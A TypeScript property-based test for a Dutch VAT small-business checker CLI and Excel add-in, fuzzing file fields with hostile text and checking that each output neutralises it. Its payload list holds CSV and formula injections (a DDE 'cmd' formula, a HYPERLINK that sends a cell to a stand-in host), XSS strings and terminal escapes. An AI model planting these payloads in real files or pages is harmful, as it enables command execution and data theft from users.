/**
 * Hostile text from a client's file through every writer. A random hostile text (a formula start `=`, `+`, `-`,
 * `@`, tab, CR, LF, full-width `＝`, spaces then `=`; CSV quotes and separators; ANSI escape sequences; C0 and C1
 * controls; direction overrides, isolates and marks; zero-width characters; lone surrogates; very long text;
 * `</script>` and HTML) is put in every text field a file can carry: the file name, a sheet name, a title line, a
 * header, a customer, a category, a country, a date and an amount cell, an own VAT code (--codes), and an
 * auditfile's company name, journal, VAT code description, customer name and invoice references. It then goes
 * through every writer:
 *
 *  - kor-check (src/cli/main.ts in-process): the terminal table, CSV (Dutch `;` and English `,`), JSON, JSON
 *    lines and stderr;
 *  - the report and overview sheets the add-in writes (src/excel/reportSheet.ts, overviewSheet.ts, on the fake
 *    Excel that reads a string as Excel does);
 *  - the pane's year report sections (rendered by react-dom/server) and its copied figures (src/taskpane/copyText.ts);
 *  - the KOR.* functions' error messages.
 *
 * And asserts: (a) no sheet cell is written unformatted as text and no CSV field starts with a formula trigger
 * (text fields read back with papaparse); (b) every CSV row has the header's number of fields; (c) no raw
 * control, direction, invisible character or lone surrogate reaches any output: they are shown as `\u202E`
 * (src/i18n/safeText.ts); (d) JSON is one valid document and JSON lines one object per line; (e) the figures
 * are those of the same files with plain text in the same places.
 *
 * KOR_HOSTILE_SEED and KOR_HOSTILE_RUNS explore other seeds and more runs.
 */
import fc from "fast-check";
import * as path from "path";
import { mkdirSync, writeFileSync } from "fs";
import * as ExcelJS from "exceljs";
import Papa from "papaparse";
import * as React from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { FluentProvider, webLightTheme } from "@fluentui/react-components";
import { CategorySection, EuSection, VerdictCard, VerdictSection, WarningSection } from "../../src/taskpane/components/ReportSections";
import * as f from "../../src/functions/functions";
import { KorFunctionError } from "../../src/functions/errors";
import { analyze, unitsOfFile } from "../../src/taskpane/model";
import { figuresText, overviewFiguresText } from "../../src/taskpane/copyText";
import { buildOverview } from "../../src/bulk/overview";
import { EMPTY_GROUPING, setGroup } from "../../src/bulk/groups";
import { writeReportSheet } from "../../src/excel/reportSheet";
import { writeOverviewSheet } from "../../src/excel/overviewSheet";
import type { InvoiceSource } from "../../src/excel/source";
import { dayFromIso, excelSerialFromDay } from "../../src/rules/dates";
import { FakeWorkbook, type SheetState } from "../excel/fake-excel";
import { invoice, writeXaf } from "../support/xaf-generator";
import { runCli, tempDir, type CliRun } from "../cli/fixtures";

jest.setTimeout(300_000);

const SEED = Number(process.env.KOR_HOSTILE_SEED ?? 20_261_130);
const RUNS = Number(process.env.KOR_HOSTILE_RUNS ?? 0);
const VERBOSE = process.env.KOR_HOSTILE_SEED !== undefined;
const runs = (n: number) => ({ seed: SEED, numRuns: RUNS > 0 ? RUNS : n });

const TODAY = dayFromIso("2026-11-27");

// ---------------------------------------------------------------------------------------------------
// Hostile text

const PIECES = [
  "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "＝", "＋", "－", "＠", "  =", " +", '"', '""', ";", ",", "'",
  "\u001B[2J", "\u001B]8;;http://x.test\u0007link\u001B]8;;\u0007", "\u001B[31m", "\u0000", "\u0007", "\u0008", "\u007F", "\u0085", "\u009B2J",
  "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C",
  "\u200B", "\u200C", "\u2060", "\uFEFF", "\u00AD", "\u2028", "\u2029", "\u{E0068}",
  "\uD800", "\uDFFF", "😀", "🏴󠁧󠁢󠁳󠁣󠁴󠁿", "é", "€",
  "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "&amp;",
  '=HYPERLINK("http://x.test/?"&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "+31 Amsterdam", "=1+1",
  "x".repeat(70),
];

/** A hostile text: pieces joined, now and then very long. */
const hostileText = fc
  .tuple(fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 6 }), fc.nat(9))
  .map(([pieces, long]) => (long === 0 ? pieces.join("").repeat(1000).slice(0, 6_000) : pieces.join("")));

/** Code points. */
const chars = (text: string): string[] => [...text];

/** What an XML text may hold (no C0 but tab and line breaks, no lone surrogate, no U+FFFE/U+FFFF); exceljs also drops DEL. */
function xmlLegal(text: string): string {
  return chars(text)
    .filter((c) => {
      const n = c.codePointAt(0) as number;
      if (n < 0x20) return c === "\t" || c === "\n";
      if (n === 0x7f) return false;
      if (n >= 0xd800 && n <= 0xdfff) return false;
      return n !== 0xfffe && n !== 0xffff;
    })
    .join("");
}

/** A file name the file system takes: no `/`, NUL, leading dot or line break issue; at most 60 code points. */
function fileName(text: string): string {
  const name = xmlLegal(text)
    .replace(/[/\\]/g, "_")
    .replace(/^[.\s]+/, "");
  return chars(name).slice(0, 60).join("") || "f";
}

/** A sheet name Excel and exceljs take: none of `*?:\/[]`, no leading or trailing `'`, 1–31 characters. */
function sheetName(text: string): string {
  const name = chars(xmlLegal(text).replace(/[*?:\\/[\]\t\n]/g, "_")).slice(0, 25).join("").replace(/^'+|'+$/g, "");
  return name.trim() === "" || /^history$/i.test(name) ? "S" : name;
}

interface Texts {
  readonly file: string;
  readonly sheet: string;
  readonly title: string;
  readonly header: string;
  readonly customer: string;
  readonly category: string;
  readonly country: string;
  readonly date: string;
  readonly amount: string;
  readonly code: string;
  readonly company: string;
  readonly journal: string;
  readonly vatDesc: string;
  readonly ref: string;
  readonly group: string;
}

const KEYS: readonly (keyof Texts)[] = ["file", "sheet", "title", "header", "customer", "category", "country", "date", "amount", "code", "company", "journal", "vatDesc", "ref", "group"];

const hostileTexts: fc.Arbitrary<Texts> = fc.tuple(...KEYS.map(() => hostileText)).map((t) => Object.fromEntries(KEYS.map((k, i) => [k, t[i]])) as unknown as Texts);

/** The same places with plain text: the figures must not differ. */
const PLAIN: Texts = Object.fromEntries(KEYS.map((k, i) => [k, `Tekst${i}`])) as unknown as Texts;

// ---------------------------------------------------------------------------------------------------
// What may not reach an output raw

/** Control, direction and invisible characters (as src/i18n/safeText.ts shows them) and lone surrogates. */
const RAW = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u00AD\u034F\u061C\u180E\u200B\u200C\u200E\u200F\u2028-\u202E\u2060-\u2064\u2066-\u206F\uFEFF\uFFF9-\uFFFB]|[\u{E0001}-\u{E007F}]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/u;

function rawIn(text: string): string | null {
  const m = RAW.exec(text);
  if (m === null) return null;
  const at = m.index;
  return `U+${(m[0].codePointAt(0) as number).toString(16).toUpperCase()} in ${JSON.stringify(text.slice(Math.max(0, at - 40), at + 40))}`;
}

/** A cell or CSV field that a spreadsheet would read as a formula (OWASP's testing guide: with LF and full-width forms). */
const FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
/** A number as kor-check writes one (amounts may be negative). */
const NUMBER = /^-?\d+([.,]\d+)?$/;

// ---------------------------------------------------------------------------------------------------
// The files

const s = (iso: string): number => excelSerialFromDay(dayFromIso(iso));

/** The own VAT code (--codes): one a workbook can hold too (XML), never empty once trimmed. */
const ownCode = (t: Texts): string => `${xmlLegal(t.code).replace(/\r/g, "")}K1`;

/** The invoice rows: 2025 within, 2026 crossing on 1 Sep; then one row per hostile cell (each refused or warned). */
function invoiceRows(t: Texts): (string | number)[][] {
  return [
    ["2025-02-01", 12000, "21", "", t.customer],
    ["2026-03-01", 15000, "21", "", t.customer],
    ["2026-09-01", 6000, ownCode(t), "", t.customer],
    ["2026-10-01", 500, "21", `${t.country}zz`, t.customer],
    ["2026-10-02", 700, `${t.category}zzq`, "", t.customer],
    [`${t.date}x`, 800, "21", "", t.customer],
    ["2026-10-03", `${t.amount}x`, "21", "", t.customer],
  ];
}

const HEADER = (t: Texts): string[] => ["Datum", "Bedrag", "Categorie", "Land", "Klant", t.header];

function csvQuoted(cell: string | number): string {
  const text = String(cell);
  return /[";\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function dutchCsv(t: Texts): string {
  const lines = [[t.title], HEADER(t), ...invoiceRows(t).map((r) => r.map((c) => (typeof c === "number" ? String(c).replace(".", ",") : c)))];
  return `${lines.map((l) => l.map(csvQuoted).join(";")).join("\r\n")}\r\n`;
}

async function writeWorkbook(file: string, t: Texts): Promise<void> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(sheetName(t.sheet));
  // A workbook cannot hold the C0 controls (XML): those come by CSV.
  ws.addRow([xmlLegal(t.title)]);
  ws.addRow(HEADER(t).map(xmlLegal));
  for (const r of invoiceRows(t)) ws.addRow(r.map((c, i) => (i === 0 && /^\d{4}-\d\d-\d\d$/.test(String(c)) ? new Date(`${c}T00:00:00Z`) : typeof c === "string" ? xmlLegal(c) : c)));
  await wb.xlsx.writeFile(file);
}

function auditfile(t: Texts): string {
  const x = (text: string): string => xmlLegal(text).replace(/\r/g, "");
  const tx = (nr: number, date: string, euros: number) =>
    invoice({ nr: String(nr), date, ref: `${x(t.ref)}${nr}`, customer: "C1", parts: [{ acc: "8000", net: euros * 100, vat: { id: "H", perc: 21 } }] });
  return writeXaf({
    fiscalYear: 2026,
    companyName: x(t.company),
    customers: [{ id: "C1", name: x(t.customer), tp: "C" }],
    vatCodes: [{ id: "H", desc: x(t.vatDesc) }],
    journals: [{ id: x(t.journal) || "J", desc: x(t.journal), type: "S", txs: [tx(1, "2026-03-01", 15000), tx(2, "2026-09-01", 6000)] }],
  });
}

interface Run {
  readonly dir: string;
  readonly names: { csv: string; xlsx: string; xaf: string };
}

async function writeFiles(dir: string, t: Texts): Promise<Run> {
  const base = fileName(t.file);
  const names = { csv: `${base}-a.csv`, xlsx: `${base}-b.xlsx`, xaf: `${base}-c.xaf` };
  writeFileSync(path.join(dir, names.csv), dutchCsv(t));
  await writeWorkbook(path.join(dir, names.xlsx), t);
  writeFileSync(path.join(dir, names.xaf), auditfile(t));
  writeFileSync(path.join(dir, "codes.csv"), `code;categorie\r\n${csvQuoted(ownCode(t))};21\r\n`);
  return { dir, names };
}

/** kor-check over the three files in `dir`, named relative to it (so a name can start the CSV's first field). */
async function check(run: Run, format: string, lang: string, extra: string[] = []): Promise<CliRun> {
  const cwd = process.cwd();
  process.chdir(run.dir);
  try {
    // "--" before the files: a name may start with "-".
    return await runCli(["--codes", "codes.csv", "--format", format, "--lang", lang, ...extra, "--", run.names.csv, run.names.xlsx, run.names.xaf], TODAY, { env: { COLUMNS: "100" } });
  } finally {
    process.chdir(cwd);
  }
}

type Json = Record<string, unknown>;

/** The figures of a JSON item: what the hostile text must not change. */
function figures(item: Json): unknown {
  const { countable, notCounted, percentOfThreshold, previousYear, year, verdict, eligible, rows, nextStart, deadline } = item;
  const crossing = item.crossing as Json | null;
  const eu = item.eu as Json | null;
  return {
    countable, notCounted, percentOfThreshold, previousYear, year, verdict, eligible, rows, nextStart, deadline,
    crossing: crossing === null ? null : { date: crossing.date, row: crossing.row, amount: crossing.amount },
    union: eu === null ? null : eu.union,
    problems: (item.problems as Json[]).map((p) => [p.row, p.severity, p.code]),
  };
}

/** Items by the file kind they came from (the names differ between hostile and plain runs). */
function byKind(items: Json[]): Record<string, unknown[]> {
  const out: Record<string, unknown[]> = {};
  for (const item of items) {
    const kind = String(item.file).slice(-6);
    (out[kind] ??= []).push(figures(item));
  }
  return out;
}

function expectNoRaw(where: string, text: string): void {
  const raw = rawIn(text);
  if (raw !== null) throw new Error(`${where}: raw ${raw}`);
}

describe("hostile text in every field a file carries, through kor-check's outputs", () => {
  let tmp: ReturnType<typeof tempDir>;
  beforeAll(() => {
    tmp = tempDir("kor-hostile-");
  });
  afterAll(() => tmp.cleanup());
  let n = 0;

  async function runAll(t: Texts): Promise<Record<string, CliRun>> {
    const dir = path.join(tmp.dir, String(n++));
    mkdirSync(dir);
    const run = await writeFiles(dir, t);
    const out: Record<string, CliRun> = {};
    for (const lang of ["nl", "en"]) for (const format of ["table", "csv", "json", "jsonl"]) out[`${format}-${lang}`] = await check(run, format, lang);
    return out;
  }

  let plain: Record<string, CliRun>;
  beforeAll(async () => {
    plain = await runAll(PLAIN);
  });

  it("shows no raw control, keeps CSV and JSON whole, starts no CSV field with a formula, and changes no figure", async () => {
    if (VERBOSE) console.log(`hostile (kor-check): seed ${SEED}`);
    await fc.assert(
      fc.asyncProperty(hostileTexts, async (t) => {
        const out = await runAll(t);
        for (const [key, r] of Object.entries(out)) {
          if (r.code !== plain[key].code) throw new Error(`${key}: exit ${r.code}, not ${plain[key].code}: ${r.stderr.slice(0, 400)}`);
          expectNoRaw(`${key} stderr`, r.stderr);
          const [format, lang] = key.split("-");
          if (format === "table") expectNoRaw(`${key} stdout`, r.stdout.replace(/\n/g, ""));
          if (format === "csv") {
            expectNoRaw(`${key} stdout`, r.stdout.replace(/\r\n/g, ""));
            const parsed = Papa.parse<string[]>(r.stdout.replace(/\r\n$/, ""), { delimiter: lang === "nl" ? ";" : ",", newline: "\r\n" });
            expect(parsed.errors).toEqual([]);
            const [header, ...records] = parsed.data;
            const [plainHeader, ...plainRecords] = Papa.parse<string[]>(plain[key].stdout.replace(/\r\n$/, ""), { delimiter: lang === "nl" ? ";" : ",", newline: "\r\n" }).data;
            expect(header).toEqual(plainHeader);
            expect(records).toHaveLength(plainRecords.length);
            for (const rec of records) {
              expect(rec).toHaveLength(header.length);
              for (const field of rec) if (!NUMBER.test(field) && FORMULA.test(field)) throw new Error(`${key}: a field starts a formula: ${JSON.stringify(field.slice(0, 80))}`);
            }
            // The figures: every field that is a number in the plain run is the same number here.
            const numbers = (recs: string[][]): string[][] => recs.map((rec) => rec.map((x) => (NUMBER.test(x) ? x : "")).slice(2)).sort();
            expect(numbers(records)).toEqual(numbers(plainRecords));
          }
          if (format === "json") {
            expectNoRaw(`${key} stdout`, r.stdout.replace(/\n/g, ""));
            const items = JSON.parse(r.stdout) as Json[];
            expect(byKind(items)).toEqual(byKind(JSON.parse(plain[key].stdout) as Json[]));
          }
          if (format === "jsonl") {
            expectNoRaw(`${key} stdout`, r.stdout.replace(/\n/g, ""));
            const lines = r.stdout.split("\n").slice(0, -1);
            expect(lines).toHaveLength(plain[key].stdout.split("\n").length - 1);
            const items = lines.map((l) => JSON.parse(l) as Json);
            expect(byKind(items)).toEqual(byKind(plain[key].stdout.split("\n").slice(0, -1).map((l) => JSON.parse(l) as Json)));
          }
        }
      }),
      runs(25),
    );
  });
});

// ---------------------------------------------------------------------------------------------------
// The add-in: its sheets, its copied figures and its functions

/** The invoice table as Excel's range.values gives it: serial dates, numbers, strings. */
function excelValues(t: Texts): (string | number)[][] {
  return [[t.title, "", "", "", "", ""], HEADER(t), ...invoiceRows(t).map((r) => r.map((c, i) => (i === 0 && /^\d{4}-\d\d-\d\d$/.test(String(c)) ? s(String(c)) : c)))];
}

function excelSource(t: Texts, key: string, name: string): InvoiceSource {
  return { key, name, origin: "sheet", tableName: null, values: excelValues(t), rowOffset: 0, columnOffset: 0, headerRowIndex: null, partial: false };
}

const MAX_CELL = 32_767;

/** What a written sheet holds: per cell its value and format, where a string cell is text and holds nothing raw. */
function checkSheet(where: string, sheet: SheetState): number[] {
  const numbers: number[] = [];
  sheet.cells.forEach((row, r) =>
    row?.forEach((v, c) => {
      const format = sheet.formats.get(`${r},${c}`) ?? "General";
      if (typeof v === "number") {
        numbers.push(v);
        return;
      }
      if (typeof v !== "string") throw new Error(`${where}: cell ${r},${c} became ${JSON.stringify(v)}`);
      if (v === "") return;
      // A string in a cell not formatted as text is read by Excel (a formula, a number): only "@" keeps it text.
      if (format !== "@") throw new Error(`${where}: text cell ${r},${c} ${JSON.stringify(v.slice(0, 60))} has format ${format}`);
      // A number written as text would not add up in the user's sums.
      if (NUMBER.test(v.trim())) throw new Error(`${where}: cell ${r},${c} holds the number ${v} as text`);
      if (v.length > MAX_CELL) throw new Error(`${where}: cell ${r},${c} holds ${v.length} characters`);
      expectNoRaw(`${where} cell ${r},${c}`, v);
    }),
  );
  return numbers;
}

interface AddinOutput {
  readonly report: number[];
  readonly overview: number[];
  readonly copied: string[];
  readonly pane: string;
  readonly functionMessages: string[];
}

async function addin(t: Texts, lang: "nl" | "en"): Promise<AddinOutput> {
  const name = sheetName(t.sheet);
  const source = excelSource(t, "sheet:1", name);
  const a = analyze(source, {}, TODAY);
  const wb = new FakeWorkbook();
  wb.addSheet(name, excelValues(t));
  const written = await writeReportSheet(wb.context().asExcel(), a.summary, lang, name, { previousYearSheet: name, probeDateSystem: false });
  if (written.kind !== "written") throw new Error(`report: ${written.kind}`);
  const report = checkSheet("report sheet", wb.sheet(written.sheetName) as SheetState);

  const other = `${name.slice(0, 20)}2`;
  const units = unitsOfFile([source, excelSource(t, "sheet:2", other), excelSource(t, "sheet:3", `${other}3`)]);
  const lines = buildOverview(units, setGroup(EMPTY_GROUPING, `${t.group}G`, ["sheet:2", "sheet:3"]), { today: TODAY });
  const wrote = await writeOverviewSheet(wb.context().asExcel(), lines, lang, TODAY, { probeDateSystem: false });
  if (wrote.kind !== "written") throw new Error(`overview: ${wrote.kind}`);
  const overview = checkSheet("overview sheet", wb.sheet(wrote.sheetName) as SheetState);

  const copied = [
    figuresText(a.summary, lang, { sourceName: name, today: TODAY, reconciliation: a.reconciliation, previousYearSheet: name }),
    overviewFiguresText(lines, lang, TODAY),
  ];

  // The pane's year report: text React renders (never HTML), with nothing raw in it.
  const el = React.createElement;
  const pane = renderToStaticMarkup(
    el(FluentProvider, { theme: webLightTheme },
      el(VerdictCard, { lang, summary: a.summary, errorRows: a.reconciliation.yearErrorRows }),
      el(VerdictSection, { lang, summary: a.summary, previousYearSheet: name }),
      el(CategorySection, { lang, summary: a.summary }),
      el(EuSection, { lang, summary: a.summary }),
      el(WarningSection, { lang, warnings: a.warnings, onFollow: () => undefined }),
    ),
  );

  // The functions over the same columns, with the cell addresses Excel gives (the sheet name in them).
  const rows = excelValues(t).slice(2);
  const col = (i: number) => rows.map((r) => [r[i]]);
  const quoted = `'${name.replace(/'/g, "''")}'`;
  const invocation = { address: `${quoted}!H1`, parameterAddresses: ["A", "B", "C", "D"].map((c) => `${quoted}!${c}3:${c}${rows.length + 2}`) } as unknown as CustomFunctions.Invocation;
  const functionMessages: string[] = [];
  const tryIt = (body: () => unknown): void => {
    try {
      body();
    } catch (e) {
      if (!(e instanceof KorFunctionError)) throw e;
      functionMessages.push(e.message);
    }
  };
  tryIt(() => f.countable(col(0), col(1), col(2), 2026, invocation));
  tryIt(() => f.crossing(col(0), col(1), col(2), 2026, invocation));
  tryIt(() => f.isCountable([[`${t.category}zzq`]]));
  tryIt(() => f.euTurnover(col(0), col(1), col(2), col(3), 2026, invocation));
  return { report, overview, copied, pane, functionMessages };
}

describe("hostile text in every field a sheet carries, through the add-in's sheets, copied figures and functions", () => {
  const plain: Partial<Record<"nl" | "en", AddinOutput>> = {};
  // Fluent UI's styles warn about class names when rendered outside a browser: not what is tested here.
  let quiet: jest.SpyInstance;
  beforeAll(() => {
    const error = console.error;
    quiet = jest.spyOn(console, "error").mockImplementation((...args: unknown[]) => {
      if (!String(args[0]).startsWith("mergeClasses()")) error(...args);
    });
  });
  afterAll(() => quiet.mockRestore());
  beforeAll(async () => {
    plain.nl = await addin(PLAIN, "nl");
    plain.en = await addin(PLAIN, "en");
  });

  it("writes text cells as text with nothing raw, copies nothing raw or formula-like, and changes no figure", async () => {
    if (VERBOSE) console.log(`hostile (add-in): seed ${SEED}`);
    await fc.assert(
      fc.asyncProperty(hostileTexts, fc.constantFrom<"nl" | "en">("nl", "en"), async (t, lang) => {
        const out = await addin(t, lang);
        const base = plain[lang] as AddinOutput;
        expect(out.report).toEqual(base.report);
        expect(out.overview).toEqual(base.overview);
        for (const text of out.copied) {
          expectNoRaw("copied figures", text.replace(/\n/g, ""));
          // Pasted into a sheet, each line is a cell.
          for (const line of text.split("\n")) if (FORMULA.test(line)) throw new Error(`copied figures: a line starts a formula: ${JSON.stringify(line.slice(0, 80))}`);
        }
        expectNoRaw("pane", out.pane);
        // React writes text, never markup: no element of the client's text appears as a tag.
        expect(out.pane).not.toMatch(/<(script|img)\b/i);
        expect(out.functionMessages).toHaveLength(base.functionMessages.length);
        for (const m of out.functionMessages) expectNoRaw("function message", m);
      }),
      runs(150),
    );
  });
});
